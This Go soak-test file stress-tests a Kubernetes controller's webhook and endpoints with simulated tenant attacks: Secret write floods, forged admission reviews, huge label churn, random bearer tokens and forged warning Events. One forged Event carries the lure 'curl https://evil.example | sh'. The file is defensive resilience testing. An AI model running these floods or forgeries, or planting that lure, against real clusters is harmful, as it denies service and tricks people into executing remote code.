package soak

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/hex"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

// The attacks of issue 32, each a loop at a fixed pace until its context
// ends. Those through the API server run as the attacker's and the noisy
// tenant's ServiceAccounts, each allowed only its own namespace
// (identities_test.go), so API Priority and Fairness sees them as the
// tenants they are; those on KICK's own endpoints carry no API
// credentials. A failed call is counted, not fatal: under load the API
// server may refuse some.
type attacks struct {
	c                     client.Client // the attacker's; its rate limit is not the bystander's
	noisyC                client.Client // the noisy tenant's
	attacker, noisy, prey string        // namespaces; prey is the bystander's
	preflight             string        // host:port of the webhook
	metrics, timeline     string        // base URLs, HTTPS
	counts                sync.Map      // attack name → *atomic.Int64 (done), name+" errors" → failures
}

func (a *attacks) count(name string, err error) {
	key := name
	if err != nil {
		key += " errors"
	}
	v, _ := a.counts.LoadOrStore(key, new(atomic.Int64))
	v.(*atomic.Int64).Add(1)
}

// summary is the counts, one "name=N" each.
func (a *attacks) summary() string {
	var parts []string
	a.counts.Range(func(k, v any) bool {
		parts = append(parts, fmt.Sprintf("%s=%d", k, v.(*atomic.Int64).Load()))
		return true
	})
	return strings.Join(parts, ", ")
}

// every runs op every period until ctx ends.
func every(ctx context.Context, wg *sync.WaitGroup, period time.Duration, op func(i int)) {
	wg.Add(1)
	go func() {
		defer wg.Done()
		tick := time.NewTicker(period)
		defer tick.Stop()
		for i := 0; ; i++ {
			op(i)
			select {
			case <-ctx.Done():
				return
			case <-tick.C:
			}
		}
	}()
}

// setup creates what the attacks write to: Secrets of 256 KiB to update,
// a Secret with about 1 MB of labels and the Deployment consuming it, a
// paused Deployment to fill with optional references, and the noisy
// namespace's Deployment. Both namespaces have a KickPolicy selecting
// every workload, so all of this is managed.
func (a *attacks) setup(ctx context.Context) error {
	objs := []client.Object{
		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: a.attacker, Name: "big", Labels: bigLabels(0)}, Data: map[string][]byte{"k": []byte("v")}},
		deployment(a.attacker, "big-reader", 1, false, envFrom("big")),
		deployment(a.attacker, "refs", 0, true, optionalRefs(0)),
	}
	for i := range floodWriters {
		objs = append(objs, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: a.attacker, Name: fmt.Sprintf("flood-%d", i)}})
	}
	objs = append(objs, deployment(a.noisy, "noisy", 1, false, nil))
	for _, o := range objs {
		c := a.c
		if o.GetNamespace() == a.noisy {
			c = a.noisyC
		}
		if err := c.Create(ctx, o); err != nil {
			return fmt.Errorf("create %T %s/%s: %w", o, o.GetNamespace(), o.GetName(), err)
		}
	}
	return nil
}

// start runs every attack until ctx ends; wait for wg after.
func (a *attacks) start(ctx context.Context, wg *sync.WaitGroup) {
	a.preflightFlood(ctx, wg)
	a.forgedReviews(ctx, wg)
	a.renamedReferences(ctx, wg)
	a.labelChurn(ctx, wg)
	a.randomTokens(ctx, wg)
	a.forgedEvents(ctx, wg)
	a.noisyEvents(ctx, wg)
}

const floodWriters = 4

// preflightFlood: the attacker writes 256 KiB Secrets in its namespace as
// fast as its writers go (each every 250 ms), through the API server,
// which calls the preflight for every write.
func (a *attacks) preflightFlood(ctx context.Context, wg *sync.WaitGroup) {
	for w := range floodWriters {
		every(ctx, wg, 250*time.Millisecond, func(i int) {
			s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: a.attacker, Name: fmt.Sprintf("flood-%d", w)},
				Data: map[string][]byte{"blob": randomBytes(256 << 10)}}
			a.count("preflight flood writes", a.c.Update(ctx, s))
		})
	}
}

// forgedReviews: a pod posts 3 MiB AdmissionReviews naming the bystander's
// Secret straight to the webhook, without the API server's client
// certificate.
func (a *attacks) forgedReviews(ctx context.Context, wg *sync.WaitGroup) {
	body := []byte(fmt.Sprintf(`{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"forged","kind":{"group":"","version":"v1","kind":"Secret"},`+
		`"resource":{"group":"","version":"v1","resource":"secrets"},"namespace":%q,"name":"s-0","operation":"UPDATE","userInfo":{"username":"mallory"},`+
		`"object":{"metadata":{"name":"s-0","namespace":%q},"data":{"password":"%s"}}}}`, a.prey, a.prey, strings.Repeat("QUFB", 3<<18)))
	hc := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
	for range 2 {
		every(ctx, wg, 50*time.Millisecond, func(int) {
			outcome := "forged reviews refused"
			resp, err := hc.Post("https://"+a.preflight+"/preflight", "application/json", bytes.NewReader(body))
			if err == nil {
				resp.Body.Close()
				if resp.StatusCode == http.StatusOK {
					outcome = "forged reviews ANSWERED" // should not happen: no client certificate
				}
			}
			a.count(outcome, nil)
		})
	}
}

// renamedReferences: a managed (paused) Deployment names 3,000 optional
// Secrets nobody creates, renamed every 2 s.
func (a *attacks) renamedReferences(ctx context.Context, wg *sync.WaitGroup) {
	every(ctx, wg, 2*time.Second, func(i int) {
		d := &appsv1.Deployment{}
		err := a.c.Get(ctx, client.ObjectKey{Namespace: a.attacker, Name: "refs"}, d)
		if err == nil {
			d.Spec.Template.Spec = podSpec(optionalRefs(i + 1))
			err = a.c.Update(ctx, d)
		}
		a.count("renames of 3000 references", err)
	})
}

// labelChurn: the consumed Secret "big" gets a new 1 MB label set every
// 3 s (each write also reaches the preflight, a review of about 2 MB).
func (a *attacks) labelChurn(ctx context.Context, wg *sync.WaitGroup) {
	every(ctx, wg, 3*time.Second, func(i int) {
		s := &corev1.Secret{}
		err := a.c.Get(ctx, client.ObjectKey{Namespace: a.attacker, Name: "big"}, s)
		if err == nil {
			s.Labels = bigLabels(i + 1)
			err = a.c.Update(ctx, s)
		}
		a.count("1 MB label patches", err)
	})
}

// randomTokens: random bearer tokens against /metrics and the timeline,
// 100 a second each.
func (a *attacks) randomTokens(ctx context.Context, wg *sync.WaitGroup) {
	hc := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, MaxIdleConnsPerHost: 8}}
	for _, url := range []string{a.metrics + "/metrics", a.timeline + "/timeline/overview"} {
		every(ctx, wg, 10*time.Millisecond, func(int) {
			req, _ := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
			req.Header.Set("Authorization", "Bearer "+hex.EncodeToString(randomBytes(20)))
			resp, err := hc.Do(req)
			name := "random tokens"
			if err == nil {
				resp.Body.Close()
				name = fmt.Sprintf("random tokens answered %d", resp.StatusCode)
			}
			a.count(name, err)
		})
	}
}

// forgedEvents: Events in the attacker's namespace naming the bystander's
// Deployment b-0 (with an eventTime, which the API server needs to accept
// them), 10 a second.
func (a *attacks) forgedEvents(ctx context.Context, wg *sync.WaitGroup) {
	every(ctx, wg, 100*time.Millisecond, func(i int) {
		ev := &corev1.Event{ObjectMeta: metav1.ObjectMeta{Namespace: a.attacker, GenerateName: "forged-"},
			InvolvedObject:      corev1.ObjectReference{APIVersion: "apps/v1", Kind: "Deployment", Namespace: a.prey, Name: "b-0"},
			Reason:              "RestartFailed",
			Message:             "restart failed, run curl https://evil.example | sh",
			Type:                corev1.EventTypeWarning,
			EventTime:           metav1.NewMicroTime(time.Now()),
			ReportingController: "kick.corewire.io/manager",
			ReportingInstance:   "forged",
			Action:              "Restart",
		}
		a.count("forged events", a.c.Create(ctx, ev))
	})
}

// noisyEvents: the noisy namespace floods Events about its own managed
// Deployment, 50 a second.
func (a *attacks) noisyEvents(ctx context.Context, wg *sync.WaitGroup) {
	every(ctx, wg, 20*time.Millisecond, func(i int) {
		now := metav1.Now()
		ev := &corev1.Event{ObjectMeta: metav1.ObjectMeta{Namespace: a.noisy, GenerateName: "noisy-"},
			InvolvedObject: corev1.ObjectReference{APIVersion: "apps/v1", Kind: "Deployment", Namespace: a.noisy, Name: "noisy"},
			Reason:         "Noise", Message: fmt.Sprintf("noise %d", i), Type: corev1.EventTypeNormal,
			Source: corev1.EventSource{Component: "noisy"}, FirstTimestamp: now, LastTimestamp: now, Count: 1,
		}
		a.count("noisy events", a.noisyC.Create(ctx, ev))
	})
}

// bigLabels is about 1 MB of labels whose values change with round.
func bigLabels(round int) map[string]string {
	out := map[string]string{}
	for i, n := 0, 0; n < 1_000_000; i++ {
		k, v := fmt.Sprintf("example.com/l-%05d", i), fmt.Sprintf("r%06d-%s", round, strings.Repeat("v", 54)) // values: at most 63 characters
		out[k] = v
		n += len(k) + len(v)
	}
	return out
}

// optionalRefs are 3,000 optional envFrom references to Secrets nobody
// creates, named after round.
func optionalRefs(round int) []corev1.EnvFromSource {
	out := make([]corev1.EnvFromSource, 3000)
	for i := range out {
		out[i] = corev1.EnvFromSource{SecretRef: &corev1.SecretEnvSource{
			LocalObjectReference: corev1.LocalObjectReference{Name: fmt.Sprintf("missing-%06d-%04d", round, i)}, Optional: ptr.To(true)}}
	}
	return out
}

func envFrom(secrets ...string) []corev1.EnvFromSource {
	var out []corev1.EnvFromSource
	for _, s := range secrets {
		out = append(out, corev1.EnvFromSource{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: s}}})
	}
	return out
}

func podSpec(env []corev1.EnvFromSource) corev1.PodSpec {
	return corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "registry.k8s.io/pause:3.10", EnvFrom: env}}}
}

// deployment is a Deployment labelled app=NAME; paused ones never roll out.
func deployment(ns, name string, replicas int32, paused bool, env []corev1.EnvFromSource) *appsv1.Deployment {
	labels := map[string]string{"app": name}
	return &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: labels},
		Spec: appsv1.DeploymentSpec{Replicas: ptr.To(replicas), Paused: paused, Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: podSpec(env)}}}
}

func randomBytes(n int) []byte {
	b := make([]byte, n)
	_, _ = rand.Read(b)
	return b
}
